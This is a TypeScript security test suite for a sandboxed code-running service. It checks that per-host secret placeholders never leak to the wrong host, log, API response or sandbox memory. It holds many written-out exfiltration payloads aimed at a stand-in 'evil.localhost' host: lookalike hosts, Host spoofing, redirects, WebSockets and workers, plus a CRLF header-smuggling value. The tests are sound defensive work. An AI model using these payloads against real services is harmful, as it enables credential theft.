import { afterAll, expect } from "bun:test"
import { readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { createAuthority, notRun } from "@hamlet/kit/testing"
import type { TestUser } from "../support/api.ts"
import type { AttackServer } from "./support/attack-server.ts"
import { describeAttacks, probe } from "./support/describe-attacks.ts"
import { createEvalVal, type EvalVal } from "./support/eval-val.ts"
import { findInMemory } from "./support/memory.ts"
import {
  type OutsideRequest,
  OutsideServer,
  toRawUrl,
  toRedirect,
} from "./support/outside-server.ts"

const value = "sk-live-only-for-one-host-4711"
const secureValue = "sk-live-only-with-encryption-0815"
const placeholder = "hamlet-secret:KEY"
const [host, other] = [await OutsideServer.listen({ "/echo": echo }), await OutsideServer.listen()]
const authority = createAuthority()
const secure = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  tls: authority.issue("api.localhost"),
  fetch(request) {
    const { searchParams } = new URL(request.url)
    const to = searchParams.get("to")
    return to === null
      ? Response.json(Object.fromEntries(request.headers))
      : new Response(null, { status: 307, headers: { location: to } })
  },
})
/** The one host that the secret is for. */
const right = `api.localhost:${host.port}`

function echo(socket: { write(text: string): unknown }, { headers }: OutsideRequest): void {
  const text = headers.map(([name, content]) => `${name}: ${content}`).join("\n")
  socket.write(`HTTP/1.1 200 OK\r\ncontent-length: ${text.length}\r\n\r\n${text}`)
}

afterAll(() => {
  host.stop()
  other.stop()
  secure.stop(true)
  authority[Symbol.dispose]()
})

const env = {
  HAMLET_EGRESS_ALLOW: [host.port, other.port, secure.port]
    .flatMap((port) => [`localhost:${port}`, `*.localhost:${port}`])
    .join(","),
  HAMLET_EGRESS_CA: authority.path,
  // A sandbox must be there as long as it is searched.
  HAMLET_IDLE_SECONDS: "300",
}

interface Theft {
  readonly tries: string
  /**
   * What the val does; `key` is what it sees of the secret, and `mark` must be in the path of every
   * request.
   */
  readonly code: string
  /** Where nothing is sent at all. */
  readonly denied?: RegExp
}

const send = (to: string, init: string) => `await fetch(\`http://${to}/\${mark}\`, ${init})`
const asHeader = '{ headers: { "x-api-key": key, authorization: `Bearer ${key}` } }'
const asBasic = '{ headers: { authorization: `Basic ${btoa(key + ":")}` } }'
const evil = `evil.localhost:${other.port}`

const thefts: readonly Theft[] = [
  { tries: "another host", code: send(evil, asHeader) },
  { tries: "another host on the same port", code: send(`evil.localhost:${host.port}`, asHeader) },
  { tries: "the host on another port", code: send(`api.localhost:${other.port}`, asHeader) },
  { tries: "a host below it", code: send(`eu.${right}`, asHeader) },
  { tries: "the host above it", code: send(`localhost:${host.port}`, asHeader) },
  {
    tries: "a host that begins like it",
    code: send(`api.localhost.evil.localhost:${host.port}`, asHeader),
  },
  { tries: "a host that ends like it", code: send(`xapi.localhost:${host.port}`, asHeader) },
  { tries: "a host with a hyphen", code: send(`evil-api.localhost:${host.port}`, asHeader) },
  {
    tries: "a host in letters that look like it",
    code: send(`\\u0430pi.localhost:${host.port}`, asHeader),
  },
  { tries: "a host with its name as a user", code: send(`${right}@${evil}`, asHeader) },
  {
    tries: "another host with its name in Host",
    code: send(evil, `{ headers: { "x-api-key": key, host: "${right}" } }`),
  },
  {
    tries: "another host with its name in Host, by a client of its own",
    code: send(
      evil,
      `{ headers: { "x-api-key": key, host: "${right}" }, client: Deno.createHttpClient({ allowHost: true }) }`,
    ),
  },
  { tries: "another host as user and password", code: send(evil, asBasic) },
  {
    tries: "another host as user and password in the address",
    code: `await fetch(\`http://\${encodeURIComponent(key)}:x@${evil}/\${mark}\`)`,
  },
  {
    tries: "another host as a cookie",
    code: send(evil, "{ headers: { cookie: `session=${key}` } }"),
  },
  {
    tries: "another host in every header there is",
    code: send(
      evil,
      "{ headers: [['accept', key], ['user-agent', key], ['referer', key], ['x-a', key], ['x-b', `a${key}b${key}`]] }",
    ),
  },
  {
    tries: "the path of the right host",
    code: send(right, "{}").replace("${mark}", "${mark}/${key}/${encodeURIComponent(key)}"),
  },
  {
    tries: "the query of the right host",
    code: send(right, "{}").replace("${mark}", "${mark}?key=${key}"),
  },
  {
    tries: "the body of the right host",
    code: send(right, `{ method: "POST", body: JSON.stringify({ key }) }`),
  },
  {
    tries: "a form for the right host",
    code: send(right, `{ method: "POST", body: new URLSearchParams({ key }) }`),
  },
  {
    tries: "a file for the right host",
    code: send(
      right,
      `{ method: "POST", body: (() => { const form = new FormData(); form.set(key, new Blob([key]), key); return form })() }`,
    ),
  },
  {
    tries: "a stream for the right host",
    code: send(right, `{ method: "POST", body: new Blob([key]).stream() }`),
  },
  {
    tries: "the name of a header",
    code: send(right, "{ headers: { [key]: 'x' } }"),
    denied: /^TypeError: /,
  },
  { tries: "the method", code: send(right, "{ method: key }"), denied: /^TypeError: / },
  {
    tries: "headers of the right host that steer the request",
    code: send(
      right,
      "{ headers: { te: key, expect: key, trailer: key, upgrade: key, 'keep-alive': key, 'proxy-authorization': key, 'sec-websocket-protocol': key, 'sec-websocket-key': key } }",
    ),
  },
  {
    tries: "a WebSocket to another host",
    code: `await new Promise((resolve) => { const socket = new WebSocket(\`ws://${evil}/\${mark}\`, { headers: { "x-api-key": key } }); socket.onopen = socket.onerror = resolve })`,
  },
  {
    tries: "the protocol of a WebSocket",
    code: `new WebSocket(\`ws://${right}/\${mark}\`, [key])`,
    denied: /^SyntaxError: /,
  },
  {
    tries: "another host by a redirect",
    code: `const to = new URL("${toRawUrl(host.port, "redirect", "")}"); to.host = "${right}"; to.search = btoa(\`${toRedirect(`http://${evil}/`).replaceAll("\r\n", "\\r\\n").replace(`${evil}/`, `${evil}/\${mark}`)}\`).replaceAll("+", "-").replaceAll("/", "_"); await fetch(to, ${asHeader})`,
  },
  {
    tries: "another port without encryption by a redirect",
    code: `await fetch("https://api.localhost:${secure.port}/?to=" + encodeURIComponent(\`http://${evil}/\${mark}\`), { headers: { "x-api-key": Deno.env.get("SECURE_KEY"), "x-other": key } })`,
  },
  {
    tries: "another host in a worker",
    code: `const worker = new Worker("data:application/javascript," + encodeURIComponent(\`fetch("http://${evil}/\${mark}", { headers: { "x-api-key": Deno.env.get("KEY") } }).finally(() => postMessage(1))\`), { type: "module" }); await new Promise((resolve) => { worker.onmessage = resolve }); worker.terminate()`,
  },
  {
    tries: "another host inside of itself",
    code: send(
      evil,
      "{ headers: { 'x-api-key': `hamlet-secret:${key}`, 'x-b': key.slice(0, 8) + key + key.slice(8) } }",
    ),
  },
  {
    tries: "another host as a value that is a placeholder",
    code: send(evil, `{ headers: { "x-api-key": Deno.env.get("NESTED") } }`),
  },
]

let count = 0
const seenIn = (mark: string) => [...host.seen(mark), ...other.seen(mark)]
/** All of a request, and what is encoded in it. */
const toText = (request: OutsideRequest) => {
  const encoded = request.headers.flatMap(
    ([, content]) => /^basic (\S+)$/i.exec(content)?.[1] ?? [],
  )
  return [
    JSON.stringify(request),
    ...encoded.map((text) => atob(text)),
    decodeURIComponent(request.target + request.body),
  ].join("\n")
}

describeAttacks("attacks/placeholders of secrets", env, (getServer) => {
  let opened: Promise<{ readonly carol: TestUser; readonly evalVal: EvalVal }> | undefined
  const open = () => {
    opened ??= settle(getServer())
    return opened
  }

  for (const { tries, code, denied } of thefts)
    probe(getServer, `a val tries to send it to ${tries}`, async () => {
      const { evalVal } = await open()
      const mark = `mark${++count}.`
      const result = await evalVal.evaluate(
        `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${code}; return key`,
      )
      if (denied) expect(result.denied).toMatch(denied)
      else expect(result.got ?? result.denied).toBe(placeholder)
      const seen = seenIn(mark)
      expect(seen.length).toBe(denied ? 0 : 1)
      for (const request of seen) {
        expect(toText(request)).toContain(placeholder)
        expect(toText(request)).not.toContain(value)
        expect(toText(request)).not.toContain(secureValue)
      }
    })

  probe(
    getServer,
    "the right host gets it, however it is written, so that the others have not failed for another reason",
    async () => {
      const { evalVal } = await open()
      for (const name of [
        right,
        right.toUpperCase(),
        `api.localhost.:${host.port}`,
        `%61pi.localhost:${host.port}`,
        `ａｐｉ.localhost:${host.port}`,
      ]) {
        const mark = `mark${++count}.`
        await evalVal.evaluate(
          `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${send(name, asHeader)}; ${send(name, asBasic)}`,
        )
        const texts = seenIn(mark).map(toText)
        expect(texts.map((text) => text.includes(value))).toEqual([true, true])
      }
    },
  )

  probe(getServer, "a val of somebody else sends the same placeholder", async (server) => {
    const evalVal = await createEvalVal(server, server.mallory)
    await evalVal.evaluate(
      `const [key, mark] = ["${placeholder}", "mallory1."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
    )
    await server.call("PUT", "/v1/me/secrets/KEY", {
      as: server.mallory,
      body: { value: "of-mallory", hosts: [right] },
    })
    await evalVal.evaluate(
      `const [key, mark] = [Deno.env.get("KEY"), "mallory2."]; ${send(right, asHeader)}`,
    )
    expect(host.seen("mallory1.").length).toBe(2)
    expect(host.seen("mallory2.").map(toText)).toEqual([expect.stringContaining("of-mallory")])
    for (const request of host.seen("mallory")) expect(toText(request)).not.toContain(value)
  })

  probe(
    getServer,
    "a val of somebody else is run by the one whose secret it is",
    async (server) => {
      const { carol } = await open()
      const val = await server.save(server.mallory, {
        code: `export default async function run() { const [key, mark] = ["${placeholder}", "borrowed."]; ${send(right, asHeader)}; return Deno.env.get("KEY") ?? "none" }`,
        type: "script",
        privacy: "public",
      })
      expect(await server.run(val, [], carol)).toMatchObject({
        status: "succeeded",
        returnValue: "none",
      })
      expect(host.seen("borrowed.").length).toBe(1)
      for (const request of host.seen("borrowed.")) expect(toText(request)).not.toContain(value)
    },
  )

  probe(
    getServer,
    "a val is run by somebody else than the one whose secret it is",
    async (server) => {
      const { carol } = await open()
      const val = await server.save(carol, {
        code: `export default async function run(mark) { const key = "${placeholder}"; ${send(right, asHeader)}; return Deno.env.has("KEY") }`,
        type: "script",
        privacy: "public",
      })
      expect(await server.run(val, ["lent-to-mallory."], server.mallory)).toMatchObject({
        status: "succeeded",
        returnValue: false,
      })
      expect(await server.run(val, ["own-run."], carol)).toMatchObject({
        status: "succeeded",
        returnValue: true,
      })
      expect(host.seen("lent-to-mallory.").map(toText).join()).not.toContain(value)
      expect(host.seen("own-run.").map(toText).join()).toContain(value)
    },
  )

  probe(getServer, "a module of somebody else is imported by a val that has it", async (server) => {
    const { carol } = await open()
    const module = await server.save(server.mallory, {
      code: `const [key, mark] = [Deno.env.get("KEY"), "imported."]; ${send(evil, asHeader)}; export const seen = JSON.stringify(Deno.env.toObject())`,
      privacy: "public",
      type: "script",
    })
    const val = await server.save(carol, {
      code: `import { seen } from "${server.baseUrl}/v/mallory/${module.name}"; export default () => new Response(seen)`,
    })
    const { status, text } = await server.request(val)
    expect([status, text]).toEqual([200, expect.stringContaining(placeholder)])
    expect(text + other.seen("imported.").map(toText).join()).not.toContain(value)
    expect(other.seen("imported.").length).toBe(1)
  })

  probe(getServer, "its host tells it back, and the record of the run hides it", async (server) => {
    const { carol } = await open()
    const val = await server.save(carol, {
      code: `export default async function () {
  const told = await (await fetch("http://${right}/echo?" + Deno.env.get("KEY"), { headers: { "x-api-key": Deno.env.get("KEY") } })).text()
  console.log(told)
  console.log({ told })
  await fetch("http://10.0.0.1/" + told.split(": ").at(-1)).catch((error) => console.warn(error.message))
  throw new Error("it said " + told)
}`,
    })
    const response = await server.request(val)
    const run = await server.loggedRun(response.headers.get("x-run-id") ?? "", carol, 3)
    expect(host.seen("/echo").map(toText).join()).toContain(value)
    expect([run.status, run.error.message]).toEqual([
      "failed",
      expect.stringContaining("[secret KEY]"),
    ])
    expect(JSON.stringify(run)).not.toContain(value)
    expect(response.text).not.toContain(value)
  })

  probe(getServer, "a value would begin another header", async (server) => {
    const dora = await server.addUser("dora")
    const saved = await server.call("PUT", "/v1/me/secrets/KEY", {
      as: dora,
      body: { value: "x\r\nx-forged: 1\r\n\r\nGET /smuggled HTTP/1.1", hosts: [right] },
    })
    if (saved.status < 300) {
      const evalVal = await createEvalVal(server, dora)
      const { runId } = await evalVal.evaluate(
        `const [key, mark] = [Deno.env.get("KEY"), "split."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
      )
      expect(host.seen("split.").length).toBe(2)
      expect(
        host.seen("split.").filter(({ headers }) => headers.some(([name]) => name === "x-forged")),
      ).toEqual([])
      expect(JSON.stringify((await server.endedRun(runId, dora)).logs)).toContain(
        "characters that a header cannot contain",
      )
    }
    expect(host.seen("smuggled")).toEqual([])
    expect([...host.faults, ...other.faults]).toEqual([])
  })

  probe(
    getServer,
    "a request would become as large as its value times the placeholders in it",
    async (server) => {
      const emil = await server.addUser("emil")
      await server.call("PUT", "/v1/me/secrets/KEY", {
        as: emil,
        body: { value: "v".repeat(30_000), hosts: [right] },
      })
      const evalVal = await createEvalVal(server, emil)
      await evalVal.evaluate(
        `const [key, mark] = [Deno.env.get("KEY"), "grown."]; ${send(right, "{ headers: { x: key.repeat(1000) } }")}`,
      )
      expect(host.seen("grown.").length).toBe(1)
      expect(host.seen("grown.").map(toText).join().length).toBeLessThan(500_000)
    },
  )

  probe(getServer, "the API tells it to nobody, not even to its owner", async (server) => {
    const { carol, evalVal } = await open()
    const { got } = await evalVal.evaluate(
      `const headers = { authorization: "Bearer " + Deno.env.get("HAMLET_TOKEN") }
       const paths = ["/v1/me", "/v1/me/secrets", "/v1/me/secrets/KEY", "/v1/me/runs", "/v1/me/usage"]
       return (await Promise.all(paths.map(async (path) => (await fetch(Deno.env.get("HAMLET_URL") + path, { headers })).text()))).join("\\n")`,
    )
    const texts = await Promise.all(
      [
        "/v1/me/secrets",
        "/v1/me/secrets/KEY",
        "/v1/me/runs",
        `/v1/vals/${evalVal.val.id}/runs`,
      ].map(async (path) => (await server.call("GET", path, { as: carol })).text),
    )
    expect(`${got}${texts.join()}`).not.toContain(value)
    expect(texts.join()).toContain('"KEY"')
  })

  if (process.getuid?.() !== 0)
    notRun(
      "the memory of a sandbox whose val has a secret for one host",
      "only root may look into it",
    )
  else
    probe(
      getServer,
      "somebody looks for it in all of the sandbox: memory, environment, files",
      async (server) => {
        const { carol } = await open()
        const val = await server.save(carol, {
          code: `const key = Deno.env.get("KEY"); export default async function () { const mark = "quiet."; ${send(right, asHeader)}; return "sent" }`,
        })
        expect((await server.request(val)).text).toBe("sent")
        expect(host.seen("quiet.").map(toText).join()).toContain(value)
        const { guest, folder } = await server.sandboxOf(val)
        expect(findInMemory(guest.pid, [placeholder, value])).toEqual([placeholder])
        const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(
          (entry) => entry.isFile(),
        )
        const texts = [
          ...files.map((entry) => join(entry.parentPath, entry.name)),
          `/proc/${guest.pid}/environ`,
        ].map((path) => readFileSync(path, "latin1"))
        expect(texts.join()).not.toContain(value)
      },
    )

  probe(getServer, "the server has not logged it", async (server) =>
    expect(server.hamlet.stdout + server.hamlet.stderr).not.toContain(value),
  )
})

async function settle(
  server: AttackServer,
): Promise<{ readonly carol: TestUser; readonly evalVal: EvalVal }> {
  const carol = await server.addUser("carol")
  const put = (name: string, body: object) =>
    server.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body })
  const saved = await put("KEY", { value, hosts: [right] })
  expect(saved.status).toBeLessThan(300)
  await put("SECURE_KEY", { value: secureValue, hosts: [`api.localhost:${secure.port}`] })
  await put("NESTED", { value: placeholder, hosts: [evil] })
  return { carol, evalVal: await createEvalVal(server, carol) }
}
